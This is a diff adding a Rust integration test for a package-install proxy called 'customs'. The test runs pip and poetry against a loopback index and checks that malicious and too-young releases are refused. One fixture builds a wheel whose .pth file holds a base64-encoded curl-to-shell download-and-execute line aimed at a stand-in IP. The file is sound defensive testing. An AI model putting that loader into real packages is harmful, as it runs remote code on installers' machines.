@@ -1,0 +1,349 @@
+//! `customs run` with every Python installer, the real client each time (pip, uv, poetry,
+//! pdm, pipx; test.sh and scripts/clients-py.sh install them under target/), against one
+//! PyPI index served on loopback: a clean release installs, a malicious one is refused in
+//! the client's own output, a too-young one is skipped where the client resolves and
+//! refused where a lockfile pins it, the lockfile keeps the user's index, and a setting
+//! of the client that would reach around the proxy either goes through it or stops the
+//! run by name.
+
+#![allow(clippy::unwrap_used)]
+
+mod common;
+
+use std::path::{Path, PathBuf};
+use std::process::{Command, Output};
+use std::sync::OnceLock;
+
+use base64::Engine;
+use common::loopback::Loopback;
+use common::root;
+use serde_json::json;
+use sha2::{Digest, Sha256};
+
+/// 2025-11-01: old enough for any cooldown.
+const OLD: &str = "2025-11-01T00:00:00Z";
+
+/// A client installed by the test script: `target/tools/bin/uv`, `target/clients/NAME/bin/NAME`.
+fn client(name: &str) -> String {
+    let path = if name == "uv" || name == "uvx" {
+        std::env::var_os("CUSTOMS_TEST_UV")
+            .map(PathBuf::from)
+            .map(|p| p.with_file_name(name))
+            .unwrap_or_else(|| root().join("target/tools/bin").join(name))
+    } else {
+        root()
+            .join("target/clients")
+            .join(name)
+            .join("bin")
+            .join(name)
+    };
+    assert!(
+        path.is_file(),
+        "{name} is installed by test.sh (scripts/clients-py.sh): {}",
+        path.display()
+    );
+    path.display().to_string()
+}
+
+fn text(o: &Output) -> String {
+    String::from_utf8_lossy(&o.stdout).into_owned() + &String::from_utf8_lossy(&o.stderr)
+}
+
+/// A wheel with a console script and a consistent RECORD; `pth` adds a start-up file.
+fn wheel(name: &str, version: &str, pth: Option<&str>) -> Vec<u8> {
+    let info = format!("{name}-{version}.dist-info");
+    let mut all: Vec<(String, Vec<u8>)> = vec![(
+        format!("{name}/__init__.py"),
+        format!("def hello():\n    print('hello from {name} {version}')\n").into_bytes(),
+    )];
+    if let Some(pth) = pth {
+        all.push((format!("{name}_start.pth"), pth.as_bytes().to_vec()));
+    }
+    all.push((
+        format!("{info}/METADATA"),
+        format!("Metadata-Version: 2.1\nName: {name}\nVersion: {version}\nSummary: tests\n")
+            .into_bytes(),
+    ));
+    all.push((
+        format!("{info}/WHEEL"),
+        b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n".to_vec(),
+    ));
+    all.push((
+        format!("{info}/entry_points.txt"),
+        format!("[console_scripts]\n{name} = {name}:hello\n").into_bytes(),
+    ));
+    let mut record = String::new();
+    for (p, d) in &all {
+        let digest = base64::engine::general_purpose::URL_SAFE_NO_PAD.encode(Sha256::digest(d));
+        record.push_str(&format!("{p},sha256={digest},{}\n", d.len()));
+    }
+    record.push_str(&format!("{info}/RECORD,,\n"));
+    all.push((format!("{info}/RECORD"), record.into_bytes()));
+    common::zip(&all)
+}
+
+/// The one index of this file, at `{url}/idx/simple/`: `plainpkg` 1.0; `sneaky` 1.0 and
+/// 1.1, whose `.pth` runs a decoded download-and-execute at start-up; `fresh` 1.0 and
+/// 1.1, published an hour ago.
+fn index() -> &'static Loopback {
+    static SERVER: OnceLock<Loopback> = OnceLock::new();
+    SERVER.get_or_init(|| {
+        let server = Loopback::start();
+        let payload = base64::engine::general_purpose::STANDARD
+            .encode("import os; os.system('curl -s http://203.0.113.9/x | sh')");
+        let pth = format!("import base64; exec(base64.b64decode('{payload}'))\n");
+        let now = std::time::SystemTime::now()
+            .duration_since(std::time::UNIX_EPOCH)
+            .unwrap()
+            .as_secs();
+        let young = customs_registry::format_rfc3339(i64::try_from(now).unwrap() - 3600);
+        let projects: [(&str, &[(&str, bool, &str)]); 3] = [
+            ("plainpkg", &[("1.0", false, OLD)]),
+            ("sneaky", &[("1.0", false, OLD), ("1.1", true, OLD)]),
+            ("fresh", &[("1.0", false, OLD), ("1.1", false, &young)]),
+        ];
+        for (name, releases) in projects {
+            let mut files = Vec::new();
+            for (version, bad, at) in releases {
+                let body = wheel(name, version, bad.then_some(pth.as_str()));
+                let file = format!("{name}-{version}-py3-none-any.whl");
+                let path = format!("/idx/files/{file}");
+                server.route(&path, "application/octet-stream", body.clone());
+                files.push(json!({"filename": file, "url": path,
+                    "hashes": {"sha256": hex::encode(Sha256::digest(&body))}, "upload-time": at}));
+            }
+            let page = json!({"meta": {"api-version": "1.1"}, "name": name, "files": files});
+            server.route(
+                &format!("/idx/simple/{name}/"),
+                "application/vnd.pypi.simple.v1+json",
+                serde_json::to_vec(&page).unwrap(),
+            );
+        }
+        server
+    })
+}
+
+/// The digest the index gives for a release's wheel.
+fn sha256_of(name: &str, version: &str) -> String {
+    let page: serde_json::Value = serde_json::from_slice(&common::fixtures::fetch(
+        index(),
+        &format!("/idx/simple/{name}/"),
+    ))
+    .unwrap();
+    let file = format!("{name}-{version}-py3-none-any.whl");
+    page["files"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|f| f["filename"] == file.as_str())
+        .unwrap()["hashes"]["sha256"]
+        .as_str()
+        .unwrap()
+        .to_owned()
+}
+
+fn simple() -> String {
+    format!("{}/idx/simple/", index().url)
+}
+
+/// A test's folder: a private HOME, store, caches and client homes.
+struct Setup {
+    dir: tempfile::TempDir,
+}
+
+impl Setup {
+    fn new() -> Self {
+        let dir = tempfile::tempdir().unwrap();
+        std::fs::create_dir_all(dir.path().join("home")).unwrap();
+        std::fs::create_dir_all(dir.path().join("project")).unwrap();
+        Self { dir }
+    }
+
+    fn path(&self) -> &Path {
+        self.dir.path()
+    }
+
+    fn project(&self) -> PathBuf {
+        self.path().join("project")
+    }
+
+    fn write(&self, file: &str, content: &str) {
+        std::fs::write(self.project().join(file), content).unwrap();
+    }
+
+    fn read(&self, file: &str) -> String {
+        std::fs::read_to_string(self.project().join(file)).unwrap()
+    }
+
+    /// A command with only the environment a test gives it: the machine's own pip and
+    /// client settings (PIP_FIND_LINKS among them) never reach a test.
+    fn command(&self, program: &str, args: &[&str], env: &[(&str, String)]) -> Command {
+        let p = self.path();
+        let mut c = Command::new(program);
+        c.args(args)
+            .current_dir(self.project())
+            .env_clear()
+            .env("PATH", std::env::var_os("PATH").unwrap_or_default())
+            .env("HOME", p.join("home"))
+            .env("NO_COLOR", "1")
+            .env("PIP_CONFIG_FILE", "/dev/null")
+            .env("PIP_DISABLE_PIP_VERSION_CHECK", "1")
+            .env("PIP_INDEX_URL", simple())
+            .env("UV_CACHE_DIR", p.join("uv-cache"))
+            .env("UV_TOOL_DIR", p.join("uv-tools"))
+            .env("UV_TOOL_BIN_DIR", p.join("bin"))
+            .env("UV_PYTHON_DOWNLOADS", "never")
+            .env("POETRY_CACHE_DIR", p.join("poetry-cache"))
+            .env("POETRY_CONFIG_DIR", p.join("poetry-config"))
+            .env("POETRY_VIRTUALENVS_IN_PROJECT", "true")
+            .env("POETRY_KEYRING_ENABLED", "false")
+            .env("PYTHON_KEYRING_BACKEND", "keyring.backends.null.Keyring")
+            .env("PDM_CONFIG_FILE", p.join("pdm-config.toml"))
+            .env("PDM_CACHE_DIR", p.join("pdm-cache"))
+            .env("PDM_CHECK_UPDATE", "false")
+            .env("PDM_PYTHON", "python3")
+            .env("PIPX_HOME", p.join("pipx"))
+            .env("PIPX_BIN_DIR", p.join("bin"))
+            .env("PIPX_MAN_DIR", p.join("man"))
+            .env("PIPX_DEFAULT_PYTHON", "python3")
+            .env("CUSTOMS_STORE", p.join("store.sqlite3"))
+            .env("CUSTOMS_CACHE_DIR", p.join("cache"));
+        for (k, v) in env {
+            c.env(k, v);
+        }
+        c
+    }
+
+    /// `customs run --min-release-age 7d -- ARGS`.
+    fn run(&self, args: &[&str], env: &[(&str, String)]) -> Output {
+        let mut all = vec!["run", "--min-release-age", "7d", "--"];
+        all.extend_from_slice(args);
+        self.command(env!("CARGO_BIN_EXE_customs"), &all, env)
+            .output()
+            .unwrap()
+    }
+
+    /// The client alone, without customs.
+    fn plain(&self, program: &str, args: &[&str]) -> Output {
+        self.command(program, args, &[]).output().unwrap()
+    }
+}
+
+fn assert_ok(out: &Output) {
+    assert!(out.status.success(), "{}", text(out));
+}
+
+/// Refused by the proxy, and the client's own output says so and why.
+fn assert_blocked(out: &Output, what: &str, why: &str) {
+    assert!(!out.status.success(), "{}", text(out));
+    let t = text(out);
+    assert!(
+        t.contains(&format!("customs blocked {what}")) && t.contains(why),
+        "refused by customs ({why}): {t}"
+    );
+}
+
+fn assert_refused(out: &Output, setting: &str) {
+    assert_eq!(out.status.code(), Some(2), "{}", text(out));
+    let err = String::from_utf8_lossy(&out.stderr);
+    assert!(
+        err.contains("did not start") && err.contains(setting),
+        "names {setting}: {err}"
+    );
+}
+
+#[test]
+fn pip_installs_downloads_skips_the_young_and_refuses_the_malicious() {
+    let s = Setup::new();
+    let t = s.path().join("t").display().to_string();
+    let d = s.path().join("d").display().to_string();
+    let pip = |cmd: &str, to: &str, req: &str| -> Output {
+        let flag = if cmd == "install" { "--target" } else { "-d" };
+        s.run(
+            &["python3", "-m", "pip", cmd, "--no-cache-dir", flag, to, req],
+            &[],
+        )
+    };
+    assert_ok(&pip("install", &t, "plainpkg"));
+    assert!(Path::new(&t).join("plainpkg/__init__.py").is_file());
+    // The young 1.1 is held back: pip takes 1.0.
+    let out = pip("install", &t, "fresh");
+    assert_ok(&out);
+    assert!(
+        Path::new(&t).join("fresh-1.0.dist-info").is_dir(),
+        "{}",
+        text(&out)
+    );
+    assert!(!Path::new(&t).join("fresh-1.1.dist-info").exists());
+    assert_blocked(
+        &pip("install", &t, "sneaky==1.1"),
+        "sneaky 1.1",
+        "malicious",
+    );
+    assert_ok(&pip("download", &d, "sneaky==1.0"));
+    assert!(Path::new(&d).join("sneaky-1.0-py3-none-any.whl").is_file());
+    assert_blocked(
+        &pip("download", &d, "sneaky==1.1"),
+        "sneaky 1.1",
+        "malicious",
+    );
+    // Pinned, the young release is refused with the reason.
+    assert_blocked(
+        &pip("download", &d, "fresh==1.1"),
+        "fresh 1.1",
+        "younger than",
+    );
+    assert!(!Path::new(&d).join("sneaky-1.1-py3-none-any.whl").exists());
+}
+
+fn poetry_project(s: &Setup, deps: &str) -> String {
+    let pyproject = format!(
+        "[project]\nname = \"app\"\nversion = \"0.1\"\nrequires-python = \">=3.9\"\ndependencies = [{deps}]\n\n[tool.poetry]\npackage-mode = false\n\n[[tool.poetry.source]]\nname = \"corp\"\nurl = \"{}\"\npriority = \"primary\"\n",
+        simple()
+    );
+    s.write("pyproject.toml", &pyproject);
+    pyproject
+}
+
+#[test]
+fn poetry_with_a_primary_source_goes_through_customs_and_its_lockfile_keeps_the_source() {
+    let poetry = client("poetry");
+    let s = Setup::new();
+    let pyproject = poetry_project(&s, "\"plainpkg\", \"fresh\"");
+    let out = s.run(&[&poetry, "install", "--no-interaction"], &[]);
+    assert_ok(&out);
+    assert_eq!(s.read("pyproject.toml"), pyproject, "restored as it was");
+    let lock = s.read("poetry.lock");
+    assert!(
+        lock.contains(&format!("url = \"{}\"", simple().trim_end_matches('/'))),
+        "{lock}"
+    );
+    assert!(
+        !lock.contains("/pypi/simple"),
+        "no address of the proxy is left: {lock}"
+    );
+    // The young fresh 1.1 was skipped for 1.0.
+    assert!(
+        lock.contains("name = \"fresh\"\nversion = \"1.0\""),
+        "{lock}"
+    );
+    // The lockfile is current for the project as it is: poetry itself says so, offline.
+    assert_ok(&s.plain(&poetry, &["check", "--lock", "--no-interaction"]));
+
+    // A malicious release: refused in poetry's own output, and nothing was written.
+    let out = s.run(&[&poetry, "add", "--no-interaction", "sneaky==1.1"], &[]);
+    assert_blocked(&out, "sneaky 1.1", "malicious");
+    assert_eq!(s.read("pyproject.toml"), pyproject);
+    // Locked to the young release, the install is refused with the reason.
+    let locked = lock
+        .replace(
+            "name = \"fresh\"\nversion = \"1.0\"",
+            "name = \"fresh\"\nversion = \"1.1\"",
+        )
+        .replace("fresh-1.0-py3-none-any.whl", "fresh-1.1-py3-none-any.whl")
+        .replace(&sha256_of("fresh", "1.0"), &sha256_of("fresh", "1.1"));
+    s.write("poetry.lock", &locked);
+    std::fs::remove_dir_all(s.project().join(".venv")).unwrap();
+    let out = s.run(&[&poetry, "install", "--no-interaction"], &[]);
+    assert_blocked(&out, "fresh 1.1", "younger than");
+}
